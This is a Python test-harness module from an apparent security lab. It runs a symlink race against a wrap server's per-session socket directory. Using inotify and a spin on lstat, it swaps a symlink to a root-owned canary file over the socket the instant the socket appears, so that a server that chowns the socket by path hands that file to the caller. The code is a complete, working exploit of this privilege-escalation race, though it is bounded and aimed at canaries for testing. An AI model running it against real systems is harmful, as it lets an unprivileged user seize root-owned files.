"""The symlink race on a wrap socket (SPEC H3, AGENTSH.md G1/E5). Stdlib only; one JSON
object on stdout.

    python3 -m wraplab.actors.symlink_race prepare --dir D --count N      (as root)
    python3 -m wraplab.actors.symlink_race race --dir D --count N --base TMP
        [--canaries C] [--api unix:SOCK] [--kind notify|signal|ptrace] [--seconds S]
        [--spin S] [--enough W] [--kernel-enough K]
    python3 -m wraplab.actors.symlink_race check --dir D --count N        (as root)

``prepare`` makes ``D`` (0755 root) holding N canary files ``c-<i>`` (0600 root:root, a
random content each). ``race`` runs as the caller of wrap-init (the owner): at most
``--count`` tries, taking the ``--canaries`` files (default: one per try) in turn and
passing over the ones already won, so that a few hundred canaries serve thousands of tries
and each win is still a canary of its own; for each try it
creates a session, has a helper process send wrap-init with ``caller_uid = getuid()``,
learns the new wrap directory's name from inotify on the temp base (IN_CREATE, the name is
in the event), then spins ``lstat(<dir>/<kind>-<id>.sock)`` and, the moment the socket
exists, ``rename()``s a prepared symlink to canary ``c-<i>`` over it (one atomic syscall).
A server that chowns/chmods the socket *by path* after that follows the symlink and hands
the canary over. After each try the racer stats its canary (the directory is 0755, so any
user can stat the 0600 file in it) and counts a win when its owner or mode changed.
``check`` re-reads every canary as root: the authoritative count.

Bounded: at most ``--count`` tries and ``--seconds`` in all; each spin at most ``--spin``
seconds; each wrap-init at most 10 s. ``--enough W`` ends the race at its W-th win;
``--kernel-enough K`` once K tries in a row met only the kernel's refusal (EACCES/EPERM
on the socket's path or on the swap) and no swap ever worked: the directory's mode is
not a race, more tries would only repeat it (``kernel_stop``); and when every canary is
won (``canaries_spent``). A
wrap-init refused with 503 (the server's cap on pending wraps: each try leaves one pending
for the accept window) makes no directory and so is no try: it is counted as ``refused``.
``denied`` counts the tries in which the kernel refused her (EACCES/EPERM).
"""

from __future__ import annotations

import argparse
import ctypes
import ctypes.util
import errno
import hashlib
import json
import os
import re
import secrets
import select
import stat
import struct
import time

from wraplab.actors._common import api_request, emit, wrap_init_body

IN_CREATE = 0x00000100
IN_ISDIR = 0x40000000
IN_NONBLOCK = 0o4000
IN_CLOEXEC = 0o2000000
_EVENT = struct.Struct("iIII")
PATH_LIMIT = 104


def canary(d: str, i: int) -> str:
    return os.path.join(d, f"c-{i:05d}")


# ------------------------------------------------------------------ prepare / check (root)


def prepare(args) -> dict:
    os.makedirs(args.dir, mode=0o755, exist_ok=True)
    os.chown(args.dir, 0, 0)
    os.chmod(args.dir, 0o755)
    for i in range(args.count):
        p = canary(args.dir, i)
        fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOFOLLOW, 0o600)
        try:
            os.write(fd, secrets.token_hex(8).encode())
            os.fchown(fd, 0, 0)
            os.fchmod(fd, 0o600)
        finally:
            os.close(fd)
    st = os.lstat(canary(args.dir, 0)) if args.count else None
    return {"dir": args.dir, "count": args.count,
            "sample": None if st is None else {"uid": st.st_uid, "gid": st.st_gid,
                                                "mode": f"{stat.S_IMODE(st.st_mode):04o}"}}


def changed(st) -> bool:
    return st.st_uid != 0 or st.st_gid != 0 or stat.S_IMODE(st.st_mode) != 0o600


def check(args) -> dict:
    won = []
    missing = 0
    for i in range(args.count):
        try:
            st = os.lstat(canary(args.dir, i))
        except FileNotFoundError:
            missing += 1
            continue
        if changed(st) or not stat.S_ISREG(st.st_mode):
            won.append({"try": i, "uid": st.st_uid, "gid": st.st_gid,
                        "mode": f"{stat.S_IMODE(st.st_mode):04o}"})
    return {"dir": args.dir, "count": args.count, "changed": len(won), "missing": missing,
            "examples": won[:10]}


# ------------------------------------------------------------------------ the race


def socket_ident(dirpath: str, session_id: str) -> str:
    """The id part of the socket name (SPEC §1 path budget)."""
    ident = os.path.basename(session_id)
    budget = PATH_LIMIT - len(os.fsencode(dirpath)) - 13
    if len(ident.encode()) > budget > 0:
        ident = hashlib.sha256(ident.encode()).hexdigest()[: min(budget, 64)]
    return ident


def helper(api: str, r: int, w: int) -> None:
    """Child: for each session id read from ``r``, send wrap-init; write the answer to ``w``."""
    f = os.fdopen(r, "r")
    out = os.fdopen(w, "w")
    uid = os.getuid()
    for line in f:
        sid = line.strip()
        if not sid:
            break
        status, resp = api_request(api, "POST", f"/api/v1/sessions/{sid}/wrap-init",
                                   wrap_init_body(uid))
        err = resp.get("error") if isinstance(resp, dict) else (resp if status is None else None)
        out.write(json.dumps({"status": status, "error": err}) + "\n")
        out.flush()
    os._exit(0)


class Inotify:
    def __init__(self, path: str):
        libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
        self.fd = libc.inotify_init1(IN_NONBLOCK | IN_CLOEXEC)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1")
        if libc.inotify_add_watch(self.fd, os.fsencode(path), IN_CREATE) < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch " + path)

    def drain(self) -> None:
        while True:
            try:
                if not os.read(self.fd, 65536):
                    return
            except BlockingIOError:
                return

    def wait_dir(self, prefix: str, deadline: float, answered=None) -> str | None:
        """The name of the next directory created whose name starts with ``prefix``; None
        at the deadline, or once ``answered()`` says the server has answered wrap-init
        without one (a 503: nothing will be created; the directory is made before the
        answer, so its event is queued by then)."""
        polls = 0
        last = False
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            # Busy-poll the non-blocking fd: a select() wake-up costs the tens of
            # microseconds the server needs from mkdtemp to bind.
            try:
                buf = os.read(self.fd, 65536)
            except BlockingIOError:
                if last:
                    return None
                polls += 1
                if answered is not None and polls & 255 == 0 and answered():
                    last = True  # one more read: an event queued before the answer
                continue
            off = 0
            while off + _EVENT.size <= len(buf):
                _wd, mask, _cookie, n = _EVENT.unpack_from(buf, off)
                name = buf[off + _EVENT.size: off + _EVENT.size + n].rstrip(b"\0").decode()
                off += _EVENT.size + n
                if mask & IN_ISDIR and name.startswith(prefix):
                    return name


def race(args) -> dict:
    uid = os.getuid()
    base = args.base.rstrip("/") or "/"
    t_start = time.monotonic()
    deadline = t_start + args.seconds
    ino = Inotify(base)
    r1, w1 = os.pipe()
    r2, w2 = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(w1)
        os.close(r2)
        helper(args.api, r1, w2)
    os.close(r1)
    os.close(w2)
    to_helper = os.fdopen(w1, "w")
    from_helper = os.fdopen(r2, "r")
    poll = select.poll()
    poll.register(r2, select.POLLIN)

    def answered() -> bool:
        """The server has answered wrap-init (nothing more will appear this try)."""
        return bool(poll.poll(0))
    tally = {"tries": 0, "wins": 0, "swapped": 0, "no_dir": 0, "no_socket": 0,
             "refused": 0, "swap_errors": {}, "http": {}, "errors": {}, "kernel_stop": False,
             "canaries_spent": False, "denied": 0}
    kernel_run = 0  # tries in a row the kernel refused (EACCES/EPERM), nothing swapped
    wins = []
    spin_counts = []
    swap_after_us = []
    link_tmp = os.path.join(base, f".wraplab-race-{os.getpid()}")
    canaries = args.canaries or args.count
    won = set()  # canaries that changed hands: never aimed at again
    c = -1  # the canary of the current try
    try:
        i = -1
        while i + 1 < args.count:
            i += 1
            if time.monotonic() >= deadline:
                break
            if len(won) >= canaries:
                tally["canaries_spent"] = True
                break  # every canary is won: another win could not be told apart
            if args.enough and tally["wins"] >= args.enough:
                break  # the point is made: more wins would only cost time
            if args.kernel_enough and kernel_run >= args.kernel_enough:
                tally["kernel_stop"] = True
                break  # the kernel refuses every try the same way: no race to win
            status, body = api_request(args.api, "POST", "/api/v1/sessions", {})
            if status != 201 or not isinstance(body, dict):
                tally["errors"][f"session:{status}"] = tally["errors"].get(
                    f"session:{status}", 0) + 1
                if tally["errors"][f"session:{status}"] > 5:
                    break
                continue
            sid = body["id"]
            c = (c + 1) % canaries
            while c in won:  # one is left: the race ends when every canary is won
                c = (c + 1) % canaries
            target = canary(args.dir, c)
            try:
                os.unlink(link_tmp)
            except FileNotFoundError:
                pass
            os.symlink(target, link_tmp)
            ino.drain()
            tally["tries"] += 1
            to_helper.write(sid + "\n")
            to_helper.flush()
            name = ino.wait_dir(args.prefix, time.monotonic() + 10, answered)
            spins = 0
            denied = False  # the kernel refused us this try (path or swap)
            if name is None:
                tally["no_dir"] += 1
            else:
                d = os.path.join(base, name)
                sock = os.path.join(d, f"{args.kind}-{socket_ident(d, sid)}.sock")
                lstat = os.lstat
                stop = time.monotonic() + args.spin
                seen = False
                link = link_tmp
                last = False  # one more look after the answer: the socket precedes it
                while True:
                    spins += 1
                    try:
                        lstat(sock)
                    except FileNotFoundError:
                        # The directory is ours already (we can search it) and the
                        # socket is not bound yet: move the symlink in, so the swap is a
                        # rename inside one directory (cheaper than across two).
                        if link is link_tmp:
                            try:
                                os.rename(link_tmp, os.path.join(d, ".l"))
                                link = os.path.join(d, ".l")
                            except OSError:
                                pass
                    except OSError as exc:
                        denied = denied or exc.errno in (errno.EACCES, errno.EPERM)
                    else:
                        seen = True
                        t_seen = time.perf_counter()
                        try:
                            os.rename(link, sock)
                        except OSError as exc:
                            key = errno.errorcode.get(exc.errno or 0, str(exc.errno))
                            tally["swap_errors"][key] = tally["swap_errors"].get(key, 0) + 1
                            denied = denied or exc.errno in (errno.EACCES, errno.EPERM)
                        else:
                            tally["swapped"] += 1
                            swap_after_us.append(
                                round((time.perf_counter() - t_seen) * 1e6, 1))
                        break
                    if last:
                        break
                    if spins & 255 == 0 and (time.monotonic() > stop or answered()):
                        last = True
                if not seen:
                    tally["no_socket"] += 1
            spin_counts.append(spins)
            line = from_helper.readline()
            try:
                res = json.loads(line)
            except ValueError:
                res = {"status": None, "error": "helper: " + line.strip()[:100]}
            key = str(res.get("status"))
            tally["http"][key] = tally["http"].get(key, 0) + 1
            if name is None and res.get("status") == 503:
                # The server's pending-wrap cap (every try leaves a wrap pending for the
                # window): no directory, no attack. Not a try; canary c waits for one.
                tally["tries"] -= 1
                tally["no_dir"] -= 1
                tally["refused"] += 1
                i -= 1
                c -= 1
                continue
            tally["denied"] += denied
            kernel_run = kernel_run + 1 if denied and not tally["swapped"] else 0
            if res.get("status") != 200 and len(tally["errors"]) < 8:
                why = re.sub(r"/\S+", "<path>", str(res.get("error")))[:120]
                tally["errors"][why] = tally["errors"].get(why, 0) + 1
            try:
                st = os.stat(target)
                if changed(st):
                    tally["wins"] += 1
                    won.add(c)
                    wins.append({"try": i, "canary": c, "uid": st.st_uid,
                                 "mode": f"{stat.S_IMODE(st.st_mode):04o}",
                                 "http": res.get("status")})
            except OSError as exc:
                tally["errors"]["stat:" + errno.errorcode.get(exc.errno or 0, "?")] = 1
    finally:
        try:
            to_helper.write("\n")
            to_helper.flush()
            to_helper.close()
        except OSError:
            pass
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        try:
            os.unlink(link_tmp)
        except OSError:
            pass
    elapsed = time.monotonic() - t_start
    spin_counts.sort()
    return {"uid": uid, "kind": args.kind, "base": base, "count": args.count,
            "seconds": round(elapsed, 3), **tally,
            "rate": round(tally["wins"] / tally["tries"], 4) if tally["tries"] else None,
            "examples": wins[:10],
            "spins_median": spin_counts[len(spin_counts) // 2] if spin_counts else None,
            "swap_us_median": sorted(swap_after_us)[len(swap_after_us) // 2]
            if swap_after_us else None}


def main(argv=None):
    p = argparse.ArgumentParser(prog="symlink_race", description=__doc__.splitlines()[0])
    p.add_argument("mode", choices=("prepare", "race", "check"))
    p.add_argument("--dir", required=True, help="the canary directory")
    p.add_argument("--count", type=int, required=True,
                   help="canary files (prepare, check); most tries (race)")
    p.add_argument("--canaries", type=int, default=0,
                   help="race: the canary files there are, taken in turn (default: --count)")
    p.add_argument("--api", default="unix:/run/wrapref/api.sock")
    p.add_argument("--base", default="/tmp", help="the server's temp base")
    p.add_argument("--prefix", default="", help="only directories whose name starts so "
                   "(default: any new directory in the temp base, the server's naming unknown)")
    p.add_argument("--kind", choices=("notify", "signal", "ptrace"), default="notify")
    p.add_argument("--seconds", type=float, default=60.0)
    p.add_argument("--enough", type=int, default=0,
                   help="stop the race after this many wins (0: make every try)")
    p.add_argument("--kernel-enough", type=int, default=0,
                   help="stop after this many tries in a row the kernel refused, when no "
                   "swap ever worked (0: make every try)")
    p.add_argument("--spin", type=float, default=0.5)
    args = p.parse_args(argv)
    if not 0 <= args.count <= 100000:
        p.error("--count: 0..100000")
    if not 0 <= args.canaries <= 100000:
        p.error("--canaries: 0..100000")
    try:
        out = {"prepare": prepare, "race": race, "check": check}[args.mode](args)
    except OSError as exc:
        emit({"error": f"{type(exc).__name__}: {exc}"}, 1)
    emit(out)


if __name__ == "__main__":
    main()
